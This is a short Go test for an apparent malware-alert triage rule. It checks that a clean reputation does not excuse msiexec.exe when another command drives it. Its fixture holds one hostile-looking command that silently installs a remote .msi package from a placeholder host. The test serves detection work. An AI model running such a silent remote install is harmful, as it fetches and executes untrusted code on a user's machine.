package triage

import "testing"

// A clean reputation vouches for the file it rates; for a system binary
// that other code drives (msiexec installing a remote package), it says
// nothing about what ran.
func TestCleanReputationOfASystemBinaryIsNoExcuse(t *testing.T) {
	tool := EndpointFields{Process: "acmeagent.exe", Reputation: "clean"}
	if got := firedRules(kindMalware, Fields{Endpoint: tool}); !got["endpoint.reputation_clean"] {
		t.Errorf("a clean program fired %v", got)
	}
	lolbin := EndpointFields{Process: "msiexec.exe", Reputation: "clean", LOLBin: true,
		CommandLine: "msiexec.exe /i https://cdn.example-viewer.com/v2/viewer.msi /qn"}
	if got := firedRules(kindMalware, Fields{Endpoint: lolbin}); got["endpoint.reputation_clean"] {
		t.Errorf("a system binary's clean reputation fired %v", got)
	}
}
